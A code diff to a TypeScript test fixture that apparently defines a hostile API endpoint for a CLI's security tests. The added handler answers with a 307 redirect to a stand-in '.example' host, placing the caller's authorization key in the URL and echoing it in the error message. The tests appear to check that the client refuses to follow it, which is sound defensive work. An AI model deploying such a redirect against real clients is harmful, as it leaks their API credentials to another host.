@@ -1,9 +1,14 @@
 import type { Attempt } from "../../attempt.ts";
 
 export const attempt: Attempt = {
-  play: "scenario",
+  play: "endpoint",
   by: "an endpoint",
-  does: "redirects the prompt, or has the key printed",
-  through: { file: "__tests__/scenarios/cli/hostile-endpoint.test.ts", name: "hands the prompt to no other host" },
-  never: ["request elsewhere", "canary out"],
+  does: "redirects the prompt to another host, with the key in the address",
+  through: "a redirect",
+  answer: (mark, { headers }) => ({
+    status: 307,
+    headers: { location: `http://${mark}.example/${encodeURIComponent(headers.authorization ?? "")}` },
+    body: { error: { message: `Go to ${mark}.example with ${headers.authorization}` } },
+  }),
+  never: ["passes", "request elsewhere", "canary out"],
 };
